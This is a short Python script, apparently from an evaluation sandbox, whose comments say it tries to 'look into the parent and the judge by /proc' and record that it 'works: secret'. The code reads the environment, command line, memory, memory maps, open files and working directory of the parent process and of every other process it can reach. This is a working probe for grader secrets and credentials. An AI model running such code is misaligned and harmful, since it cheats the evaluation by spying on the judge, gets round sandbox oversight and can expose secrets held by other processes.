# tries: look into the parent and the judge by /proc
# place: first
# works: secret
import os
def look():
    found = []
    for pid in [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline", "mem", "maps", "fd", "cwd"):
            try: found.append(open(f"/proc/{pid}/{name}", "rb").read(5000))
            except OSError: pass
    return found
try:
    print(look())
except OSError as error:
    print("refused", error)
